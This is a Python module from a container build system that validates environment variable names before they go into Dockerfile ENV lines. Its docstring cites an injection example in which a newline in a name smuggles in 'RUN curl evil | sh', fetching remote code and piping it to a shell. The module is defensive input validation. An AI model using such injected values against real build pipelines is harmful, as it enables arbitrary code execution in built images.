"""One rule for the names of environment variables a build puts in an image.

A name ends up verbatim in a Dockerfile ``ENV`` line (the Docker strategy's
edits, the S2I template), where only values are quoted.  A name that holds a
newline would start a new instruction (``X=1\\nRUN curl evil | sh``), and one
with ``=``, a quote or a space would change what the line sets.  So every
source of build env (``sourceStrategy.env``, ``dockerStrategy.env``, a
webhook's or ``start-build``'s ``env``, ``.s2i/environment``) is checked
with this one validator, the C identifier rule that POSIX shells, s2i and
Docker's ``ENV`` all accept.

It is stricter than Kubernetes' pod env rule (which allows ``-`` and ``.``):
those names cannot be set from a shell and no builder image reads them.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from builder.api.reasons import BuildError, StatusReason

ENV_NAME_RULE = "letters, digits and '_', not starting with a digit"
_ENV_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")


def is_env_name(name: object) -> bool:
    """True for a name every build may put in an ``ENV`` line (ASCII only)."""
    return isinstance(name, str) and _ENV_NAME.fullmatch(name) is not None


def check_env_names(
    pairs: Iterable[tuple[str, str]],
    *,
    what: str,
    reason: StatusReason = StatusReason.MANAGE_DOCKERFILE_FAILED,
) -> None:
    """Raise ``BuildError(reason)`` naming the first invalid name and where it came from.

    The name is shown with ``repr`` so a newline in it stays on the one line
    of the Build's message.
    """
    for name, _ in pairs:
        if not is_env_name(name):
            raise BuildError(
                reason,
                f"{what} name {name!r} is not a valid environment variable name ({ENV_NAME_RULE})",
            )


__all__ = ["ENV_NAME_RULE", "check_env_names", "is_env_name"]
